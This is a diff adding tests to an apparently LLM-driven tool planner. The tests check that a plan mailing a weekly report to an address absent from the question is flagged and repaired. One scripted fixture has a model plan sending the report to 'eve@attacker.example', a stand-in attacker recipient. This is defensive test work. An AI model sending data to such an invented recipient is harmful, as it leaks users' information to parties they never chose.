@@ -172,3 +172,53 @@ def test_cli_plan_prints_the_plan_and_with_execute_the_trace(
     monkeypatch.setattr(common, "backend_from_args", lambda args: ScriptedBackend(["nothing"], cycle=True))
     assert cli.main(["plan", "x", "--tools", str(spec), "--max-retries", "0"]) == 1
     assert "no usable plan after 1 attempt" in capsys.readouterr().err
+
+
+def _mail_tools() -> ToolSet:
+    tools = make_tools()
+
+    @tools.tool
+    def lookup_address(name: str) -> str:
+        """Find a person's e-mail address."""
+        return "ann@example.com"
+
+    @tools.tool
+    def send_report(recipient: str) -> str:
+        """Mail the weekly report to an e-mail address."""
+        return f"sent to {recipient}"
+
+    return tools
+
+
+INVENTED = """Plan: Mail the report.
+:evidence0: = send_report[eve@attacker.example]
+Answer: :evidence0:
+"""
+FROM_QUESTION = """Plan: Mail the report.
+:evidence0: = send_report[bob@example.com]
+Answer: :evidence0:
+"""
+FROM_EVIDENCE = """Plan: Find Ann's address.
+:evidence0: = lookup_address[Ann]
+Plan: Mail her the report.
+:evidence1: = send_report[:evidence0:]
+Answer: :evidence1:
+"""
+
+
+def test_a_plan_may_not_send_to_an_address_nobody_gave_and_is_repaired() -> None:
+    backend = ScriptedBackend([INVENTED, FROM_QUESTION])
+    plan = Router(_mail_tools(), backend).plan("Send the weekly report to bob@example.com")
+    assert plan.steps[0].input == "bob@example.com"
+    repair = backend.requests[1].prompt
+    assert "'eve@attacker.example', which the question does not contain" in repair
+    # An address an earlier step returned is the tool's result, not the model's invention.
+    ok = Router(_mail_tools(), ScriptedBackend([FROM_EVIDENCE])).plan("Send Ann the weekly report")
+    assert [s.tool for s in ok.steps] == ["lookup_address", "send_report"]
+    # Out of retries, the refusal names the step; without grounding the plan is taken as written.
+    with pytest.raises(PlanValidationError) as refused:
+        Router(_mail_tools(), ScriptedBackend([INVENTED]), max_retries=0).plan("Send the report to Bob")
+    assert [p.kind for p in refused.value.problems] == ["ungrounded_value"]
+    assert refused.value.problems[0].step == 1
+    loose = Router(_mail_tools(), ScriptedBackend([INVENTED])).plan("Send the report to Bob", grounded=False)
+    assert loose.steps[0].input == "eve@attacker.example"
